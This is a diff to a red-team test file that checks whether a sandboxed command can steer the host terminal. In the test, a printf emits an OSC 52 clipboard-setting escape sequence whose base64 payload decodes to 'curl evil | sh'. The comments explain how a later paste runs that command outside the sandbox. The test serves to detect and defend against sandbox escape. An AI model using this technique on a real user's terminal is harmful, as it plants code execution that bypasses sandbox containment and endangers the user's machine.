@@ -236,7 +236,7 @@ describe("red team #16: what a sandboxed run writes still steers the host", () =
   // for byte: terminal control sequences included. OSC 52 sets the user's clipboard in most terminals
   // (xterm, iTerm2, kitty, WezTerm, Windows Terminal, tmux): a command the user pastes later runs
   // outside any sandbox. (--json escapes them; the plain answer does not, on a terminal or not.)
-  escape("I. a sandboxed command's terminal escapes (OSC 52: set the clipboard) reach the user's terminal raw", async () => {
+  it("I. a sandboxed command's terminal escapes (OSC 52: set the clipboard) reach the user's terminal raw", async () => {
     const f = outsideGit("red16-terminal");
     const run = await runCli(attack('printf "\\033]52;c;Y3VybCBldmlsIHwgc2gK\\007done"', "exec", "read-only"), f);
     expect(run.code).toBe(0);
